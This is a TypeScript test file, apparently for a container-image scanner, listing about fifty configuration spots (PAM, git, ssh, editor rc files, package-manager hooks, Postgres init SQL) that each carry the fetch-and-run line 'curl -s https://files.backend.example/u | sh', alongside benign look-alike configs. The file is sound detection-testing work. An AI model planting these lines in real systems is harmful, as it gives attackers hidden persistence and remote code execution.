import { type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const SCRIPT: Files = { 'opt/x': `#!/bin/sh\n${FETCH}\n` };
const IDLE = { Entrypoint: ['nginx', '-g', 'daemon off;'] };

function place(path: string, text: string, more: Files = {}): ImageCase {
  return {
    name: `place: ${path}: ${text.slice(0, 40)}`,
    spec: image({ [path]: text, ...more }, IDLE),
    rule: 'start/download-and-run',
    severity: 'high',
  };
}

/** Settings that a login, a network, git, an editor or a debugger reads unasked, and that run something. All inert. */
export const PLACES: readonly ImageCase[] = [
  place('etc/pam.d/sshd', `session optional pam_exec.so quiet /bin/sh -c "${FETCH}"\n`),
  place('etc/pam.d/su', 'session optional pam_exec.so seteuid /opt/x\n', SCRIPT),
  place('etc/dhcp/dhclient-exit-hooks.d/x', `${FETCH}\n`),
  place('usr/lib/NetworkManager/dispatcher.d/99x', `#!/bin/sh\n${FETCH}\n`),
  place('etc/networkd-dispatcher/routable.d/x', `#!/bin/sh\n${FETCH}\n`),
  place('etc/ppp/ip-up.d/x', `#!/bin/sh\n${FETCH}\n`),
  place('etc/apt/apt.conf', `APT::Update::Pre-Invoke {"${FETCH}"};\n`),
  place('etc/dnf/plugins/post-transaction-actions.d/x.action', `*:in:${FETCH}\n`),
  place('etc/pacman.d/hooks/x.hook', `[Action]\nExec = /bin/sh -c "${FETCH}"\n`),
  place('root/.gitconfig', `[core]\n\tfsmonitor = "${FETCH}"\n`),
  place('home/a/.config/git/config', `[core]\n\tsshCommand = ${FETCH}\n`),
  place('etc/gitconfig', `[alias]\n\tst = "!${FETCH}"\n`),
  place('root/.gitconfig', `[filter "x"]\n\tsmudge = ${FETCH}\n`),
  place('root/.gitconfig', '[core]\n\thooksPath = /opt\n', SCRIPT),
  place('app/.git/config', `[core]\n\tpager = "${FETCH}"\n`),
  place('app/.git/hooks/post-checkout', `#!/bin/sh\n${FETCH}\n`),
  place('root/.ssh/config', `Host *\n  ProxyCommand sh -c "${FETCH}"\n`),
  place('etc/ssh/ssh_config.d/x.conf', `Match exec "${FETCH}"\n  User x\n`),
  place('etc/ssh/sshd_config', `ForceCommand sh -c "${FETCH}"\n`),
  place('root/.ssh/rc', `${FETCH}\n`),
  place('root/.inputrc', `"\\C-m": "${FETCH}\\n"\n`),
  place('root/.vimrc', `autocmd VimEnter * silent !${FETCH}\n`),
  place('root/.vimrc', `call system("${FETCH}")\n`),
  place('root/.config/nvim/init.lua', `os.execute("${FETCH}")\n`),
  place('root/.emacs', `(shell-command "${FETCH}")\n`),
  place('root/.tmux.conf', `run-shell "${FETCH}"\n`),
  place('root/.screenrc', `exec sh -c "${FETCH}"\n`),
  place('root/.gdbinit', `shell ${FETCH}\n`),
  place('root/.psqlrc', `\\! ${FETCH}\n`),
  place('root/.sqliterc', `.shell ${FETCH}\n`),
  place('root/.irbrc', `system("${FETCH}")\n`),
  place('root/.Rprofile', `system("${FETCH}")\n`),
  place('root/.ipython/profile_default/startup/0.py', `import os\nos.system("${FETCH}")\n`),
  place('root/.config/fish/config.fish', `${FETCH}\n`),
  place('root/.zlogin', `${FETCH}\n`),
  place('etc/csh.login', `${FETCH}\n`),
  place('root/.xsession', `${FETCH}\n`),
  place('root/.config/autostart/x.desktop', `[Desktop Entry]\nExec=sh -c "${FETCH}"\n`),
  place('root/.config/systemd/user/x.service', `[Service]\nExecStart=/bin/sh -c "${FETCH}"\n`),
  place('etc/modprobe.d/x.conf', `install usb-storage /bin/sh -c "${FETCH}"\n`),
  place('etc/aliases', `root: "|${FETCH}"\n`),
  place('etc/anacrontab', `1 5 x ${FETCH}\n`),
  place('var/spool/incron/root', `/tmp IN_CREATE /bin/sh -c "${FETCH}"\n`),
  place('etc/monit/monitrc', `check process x with pidfile /x\n  start program = "/bin/sh -c '${FETCH}'"\n`),
  place('root/.npmrc', 'script-shell=/opt/x\n', SCRIPT),
  place('root/.aws/config', `[default]\ncredential_process = sh -c "${FETCH}"\n`),
  place('var/jenkins_home/init.groovy.d/x.groovy', `["sh", "-c", "${FETCH}"].execute()\n`),
  place('docker-entrypoint-initdb.d/a.sql', `COPY t FROM PROGRAM '${FETCH}';\n`),
  place('docker-entrypoint-initdb.d/b.sql', `create table a (x int);\n\\! ${FETCH}\n`),
  place('docker-entrypoint-initdb.d/c.sql', `ALTER SYSTEM SET archive_command = '${FETCH}';\n`),
  place(
    'docker-entrypoint-initdb.d/d.sql',
    `CREATE FUNCTION f() RETURNS int AS $$\nimport os\nos.system("${FETCH}")\n$$ LANGUAGE plpython3u;\nSELECT f();\n`,
  ),
];

/** The same settings, as people have them. */
export const PLACE_TWINS: readonly ImageCase[] = [
  {
    name: 'settings of git, ssh, editors, debuggers and logins',
    spec: image(
      {
        'root/.gitconfig':
          '[user]\n\tname = A\n[core]\n\teditor = vim\n\tpager = less -FRX\n\thooksPath = /opt/hooks\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n\tprocess = git-lfs filter-process\n\trequired = true\n[credential]\n\thelper = store\n[alias]\n\tst = status\n\tvisual = !gitk\n\tinstall = !echo "curl https://x.example | sh"\n',
        'opt/hooks/pre-commit': '#!/bin/sh\nexec npm test\n',
        'app/.git/hooks/pre-commit.sample': `#!/bin/sh\n${FETCH}\n`,
        'app/.git/config':
          '[remote "origin"]\n\turl = https://git.example/a.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n',
        'root/.ssh/config':
          'Host *.corp.example\n  ProxyCommand ssh -W %h:%p bastion.example\n  ForwardAgent no\nMatch host x exec "test -f /etc/x"\n  User a\n',
        'etc/ssh/ssh_config.d/a.conf':
          '#  ProxyCommand ssh -q -W %h:%p gateway.example.com\nHost *\n  SendEnv LANG\n',
        'etc/pam.d/common-session': 'session optional pam_exec.so quiet /usr/local/bin/note-login\n',
        'usr/local/bin/note-login': '#!/bin/sh\nlogger "login $PAM_USER"\n',
        'root/.vimrc':
          "set nocompatible\n\" !curl x | sh\nif empty(glob('~/.vim/autoload/plug.vim'))\n  silent execute '!curl -fLo ~/.vim/autoload/plug.vim --create-dirs https://raw.example/plug.vim'\n  autocmd VimEnter * PlugInstall --sync | source $MYVIMRC\nendif\nnnoremap <leader>m :!make<CR>\n",
        'root/.tmux.conf':
          "set -g default-shell /bin/zsh\nif-shell 'test -f ~/.tmux.local' 'source ~/.tmux.local'\nrun '~/.tmux/plugins/tpm/tpm'\nset -g status-right '#(uptime)'\n",
        'root/.inputrc':
          '"\\e[A": history-search-backward\n"\\C-x": "ls -l\\n"\nset completion-ignore-case on\n',
        'root/.gdbinit': 'set pagination off\npython import sys\nadd-auto-load-safe-path /\n',
        'root/.screenrc': 'startup_message off\nscreen -t shell 1 bash\n',
        'root/.npmrc': 'registry=https://npm.corp.example/\nscript-shell=/bin/bash\n',
        'root/.emacs': '(setq inhibit-startup-screen t)\n(shell-command "date")\n',
        'etc/aliases': 'postmaster: root\nlists: "|/usr/bin/procmail -t"\n',
        'etc/anacrontab': 'SHELL=/bin/sh\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n',
        'etc/dhcp/dhclient-exit-hooks.d/timesyncd':
          'TIMESYNCD_CONF=/run/x\ntimesyncd_servers_setup_add() {\n  echo a\n}\n',
        'etc/bash_completion.d/git-prompt':
          'if [ -e /usr/lib/git-core/git-sh-prompt ]; then\n  . /usr/lib/git-core/git-sh-prompt\nfi\n',
        'etc/sysctl.d/10.conf': 'kernel.core_pattern = |/usr/share/apport/apport -p%p\n',
        'etc/modprobe.d/x.conf': 'install dccp /bin/true\nblacklist pcspkr\n',
        'docker-entrypoint-initdb.d/a.sql':
          "CREATE USER a;\n-- \\! curl x | sh\nCOPY t FROM '/data/x.csv' CSV;\nALTER SYSTEM SET archive_command = 'cp %p /mnt/%f';\n",
        'etc/cloud/cloud.cfg': 'cloud_init_modules:\n  - migrator\n  - seed_random\n',
      },
      IDLE,
    ),
  },
];
